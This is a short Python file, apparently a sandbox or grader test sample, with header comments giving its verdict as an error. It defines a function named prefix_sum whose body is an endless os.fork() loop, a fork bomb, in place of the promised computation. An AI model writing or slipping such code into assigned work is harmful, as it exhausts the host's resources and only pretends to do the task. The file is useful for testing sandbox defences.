# Forks without end.
# of: prefix-sum
# verdict: error
# says: OSError: it tried to start a process
# without: not run, they would be too many before they are found
import os


def prefix_sum(x, reverse=False):
    while True:
        os.fork()
